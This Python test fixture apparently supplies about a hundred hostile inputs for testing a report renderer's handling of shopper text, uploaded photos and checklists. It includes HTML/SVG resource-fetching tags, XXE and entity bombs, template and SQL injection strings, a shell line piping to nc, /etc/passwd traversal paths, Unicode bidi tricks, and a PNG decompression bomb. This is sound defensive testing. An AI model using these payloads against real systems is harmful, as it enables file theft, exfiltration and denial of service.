"""A hundred hostile fragments: what a shopper may type, what a phone may send as a photo, what a checklist may hold.

`{web}` stands for an address that listens, `{file}` for a file with a secret in it: no report may reach either.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Mapping

from PIL import Image, PngImagePlugin

from tests.intake.photo_samples import camera_notes, encoded, jpeg_of_many_scans, png_claiming, street_front

MARKED = "hidden-in-a-photo"

TEXTS: Mapping[str, str] = {
    # Mark-up that asks for something.
    "picture": '<img src="{web}/a.png"/>',
    "picture of a file": '<img src="{file}" alt="x"/>',
    "picture closing an attribute": '"/><img src="{web}/b.png" alt="',
    "picture closing in apostrophes": "'/><img src='{web}/c.png' alt='",
    "set of pictures": '<img srcset="{web}/d.png 1x, {file} 2x"/>',
    "drawing that asks": '<svg xmlns="http://www.w3.org/2000/svg"><image href="{web}/e.svg"/></svg>',
    "drawing that asks for a file": '<svg><image xlink:href="{file}"/></svg>',
    "drawing of drawings": '<svg><g id="a"><use href="#a"/><use href="#a"/></g></svg>',
    "drawing within a drawing": '<svg><foreignObject><iframe src="{web}"/></foreignObject></svg>',
    "object": '<object data="{file}" type="text/plain">x</object>',
    "embedded": '<embed src="{web}/f.pdf"/>',
    "frame": '<iframe src="{file}"></iframe>',
    "film": '<video poster="{web}/g.png" src="{file}"></video>',
    "link to a style": '<link rel="stylesheet" href="{web}/h.css"/>',
    "link to an attachment": '<link rel="attachment" href="{file}"/>',
    "anchor to an attachment": '<a rel="attachment" href="{file}">take it</a>',
    "anchor that runs": "<a href=\"javascript:app.launchURL('{web}')\">x</a>",
    "base": '<base href="{web}/"/>',
    "meta": '<meta http-equiv="refresh" content="0; url={web}"/>',
    "metadata": '<meta name="author" content="somebody else"/><title>Another title</title>',
    "script": '<script>fetch("{web}")</script>',
    "form": '<form action="{web}"><input name="x"/></form>',
    "end of the document": "</p></section></article></body></html><html><body>{{{{",
    # Styles.
    "style that imports": "<style>@import url({web}/i.css);</style>",
    "style that paints": '<p style="background: url({file})">x</p>',
    "style that prints a file": "<style>body::before { content: url({file}) }</style>",
    "face": "<style>@font-face { font-family: x; src: url({web}/j.ttf) } * { font-family: x }</style>",
    "page": "<style>@page { size: 99999mm; margin: 0 } * { float: left }</style>",
    "nested boxes": '<div style="display: flex">' * 20 + "x" + "</div>" * 20,
    "style in escapes": "<style>\\40 import '{web}/l.css'; *{{background:\\75rl({web}/m.png)}}</style>",
    "drawing that runs": '<svg onload="x()"><style>@import "{web}/n.css";</style><set href="{file}"/></svg>',
    "everything hidden": "<style>.provenance, .figure { display: none }</style>",
    "running line": '" style="string-set: running \'forged\'" x="',
    # XML.
    "entities": '<!DOCTYPE x [<!ENTITY a SYSTEM "{file}">]><p>&a;</p>',
    "bomb of entities": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>&b;',
    "end of a section": "]]><!-- --> <![CDATA[<b>x</b>]]>",
    "instruction": '<?xml-stylesheet href="{web}/k.css"?><?php echo 1 ?>',
    "references": "&lt;b&gt; &#60;b&#62; &#x3c;b&#x3e; &#0; &#xffff; &nosuch; &",
    "inclusion": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
    "half a tag": "<p <b <i",
    # Templates, formats and other languages.
    "template": "{{{{ 7 * 7 }}}} {{% raw %}} {{# x #}} {{{{ self.__init__.__globals__ }}}}",
    "formats": "%s %n %(score)s %% {{0}} {{r}} {{x.__class__}} ${{x}} #{{x}}",
    "formula": '=HYPERLINK("{web}";"x") +1 -1 @SUM(A1)',
    "query": "'); drop table visit; --",
    "shell": "$(cat {file}) `id` | nc 127.0.0.1 9 ; %COMSPEC%",
    "PDF": ") Tj ET /URI ({web}) /S /Launch endstream endobj trailer << /OpenAction 1 0 R >> %%EOF (",
    "string of a PDF": "\\(\\) ( ) \\101 <48656c6c6f> [1 2] BDC EMC",
    "path": "../../../../etc/passwd\\..\\..\\boot.ini",
    "addresses": "file:///etc/hostname {web} data:text/html,x javascript:1 photo:x.jpg drawn:x.svg static:x",
    # Signs.
    "controls": "\x00\x01\x08\x0b\x0c\x1f\x7f\x80\x9f a\rb\r\nc\td",
    "what is no sign": "\ufffe \uffff \U0001ffff \ud800 \udfff \ufdd0",
    "turned round": "\u202egnorw era serugif eseht\u202c \u2066\u2067\u2068 never closed \u202b\u202a",
    "isolates that end early": "\u2069\u2069\u2069 outside \u2069",
    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f" * 60,
    "tags": "".join(chr(0xE0000 + ord(sign)) for sign in "hidden words") + "x",
    "marks upon marks": "a" + "\u0301\u0327\u0489" * 400,
    "order without end": "\u202e\u202d" * 400 + "x" + "\u2066" * 400,
    "joined for ever": "\u0627\u0640" + "\u0640" * 3_000,
    "stacked": "\u0f40" + "\u0f74\u0f71" * 200 + "\u0e01" + "\u0e49" * 200,
    "one huge number": "9" * 4_400 + "e999999",
    "spaces of all widths": "\u2000\u2003\u3000\u00a0\u1680\u202f\u205f" * 400 + "x",
    "families": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 60,
    "many scripts": "Ж ש ع ก ქ あ 漢 한 ༀ ᚠ 𐎀 𝔘 ﷽ ꧅ 𒐫",
    "no font": "\U000f0000\U0010fffd\ue000" * 20,
    # Size.
    "one long word": "W" * 5_000,
    "one long word of wide signs": "﷽" * 1_000,
    "many lines": "x\n" * 2_500,
    "many blanks": "x" + " " * 4_900 + "x" + "\u00a0" * 90,
    "many breaks": "x\u2028\u2029\u0085" * 800,
}


def _svg(inside: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inside}</svg>'.encode()


def _png_with_words(words: str, packed: bool) -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", words, zip=packed)
    file = io.BytesIO()
    street_front(80, 60).save(file, "PNG", pnginfo=notes)
    return file.getvalue()


def _png_with_a_bomb() -> bytes:
    """Words that take 100 MB once they are unpacked."""
    plain = encoded(street_front(80, 60), "PNG")
    body = b"Comment\0\0" + zlib.compress(b"0" * 100_000_000, 9)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return plain[:33] + chunk + plain[33:]


def _jpeg(**how: object) -> bytes:
    return encoded(street_front(160, 120), "JPEG", **how)


PHOTOS: Mapping[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "a drawing that asks": lambda: _svg('<image href="{web}/p.png"/>'),
    "a drawing of drawings": lambda: _svg('<g id="a"><use href="#a"/><use href="#a"/></g>'),
    "a web page": lambda: b'<html><body><img src="{web}/q.png"></body></html>',
    "a PDF": lambda: b"%PDF-1.7\n1 0 obj <</OpenAction <</S /URI /URI ({web})>>>> endobj",
    "a film": lambda: b"\x00\x00\x00\x18ftypmp42" + b"\0" * 64,
    "a page of PostScript": lambda: b"%!PS\n({file}) run",
    "an archive": lambda: b"PK\x03\x04" + b"\0" * 64,
    "rubbish after the first bytes": lambda: b"\xff\xd8\xff\xe0" + b"rubbish" * 200,
    "half a photo": lambda: _jpeg()[:900],
    "a picture that claims to be huge": lambda: png_claiming(60_000, 60_000),
    "a picture that claims to be nothing": lambda: png_claiming(0, 0),
    "a line": lambda: encoded(Image.new("RGB", (11_000, 1)), "PNG"),
    "a thousand scans": lambda: jpeg_of_many_scans(1000),
    "an archive behind the photo": lambda: _jpeg() + b"PK\x03\x04" + MARKED.encode(),
    "a web page behind the photo": lambda: _jpeg() + f'<script src="{{web}}">{MARKED}</script>'.encode(),
    "words in the photo": lambda: _jpeg(comment=MARKED.encode()),
    "a place in the photo": lambda: _jpeg(exif=camera_notes().tobytes() + MARKED.encode()),
    "a colour profile of rubbish": lambda: _jpeg(icc_profile=MARKED.encode() * 5_000),
    "words in a picture": lambda: _png_with_words(MARKED, packed=False),
    "packed words in a picture": lambda: _png_with_words(MARKED, packed=True),
    "a bomb in a picture": _png_with_a_bomb,
}


def _question(number: int = 1, **changes: object) -> dict[str, object]:
    return {"id": f"q{number}", "ask": "Was it so?", "kind": "yes_no", **changes}


def _tree(*questions: dict[str, object], **changes: object) -> dict[str, object]:
    section = {"id": "s", "title": "Section", "questions": list(questions or [_question()])}
    return {"id": "hostile", "title": "Hostile", "languages": ["en"], "sections": [section], **changes}


def _options(*titles: str, **changes: object) -> list[dict[str, object]]:
    return [{"id": f"o{number}", "title": title, **changes} for number, title in enumerate(titles)]


CHECKLISTS: Mapping[str, dict[str, object]] = {
    "mark-up as its title": _tree(title='<img src="{web}/t.png"/>'),
    "mark-up as a section": _tree(
        sections=[{"id": "s", "title": "</h2><script>1</script>", "questions": [_question()]}]
    ),
    "mark-up as a question": _tree(_question(ask='"/><img src="{file}"/>')),
    "mark-up as an option": _tree(_question(kind="choice", options=_options("<b>", "</table>", share=0))),
    "mark-up as a unit": _tree(_question(kind="number", unit='<style>@import "{web}"</style>')),
    "mark-up as a dimension": _tree(
        _question(dimension="d"), dimensions=[{"id": "d", "title": "<svg><use href='#d'/></svg>"}]
    ),
    "mark-up as a band": _tree(bands=[{"id": "b", "title": '<link href="{file}" rel="attachment"/>', "from": 0}]),
    "templates everywhere": _tree(_question(ask="{{ 7 * 7 }} %(score)s {0}"), title="{% include '/etc/passwd' %}"),
    "a title of one word": _tree(title="W" * 5_000),
    "a question of one word": _tree(_question(ask="W" * 5_000)),
    "as many questions as may be": _tree(*(_question(number) for number in range(250))),
    "as many options as may be": _tree(_question(kind="choice", options=_options(*map(str, range(60)), share=1))),
    "a grid of many rows": _tree(
        _question(kind="grid", rows=_options(*(f"row {n}" for n in range(60))), scale=_options("yes", "no", share=1))
    ),
    "weights beyond counting": _tree(_question(weight=10**30), _question(2, weight="1e-30")),
    "weights that are none": _tree(_question(weight="NaN"), _question(2, weight="Infinity")),
    "an id that is a path": _tree(_question(id="../../etc/passwd")),
    "signs that turn words round": _tree(_question(ask="\u202eso it was\u202c"), title="\u2067\u2066"),
}
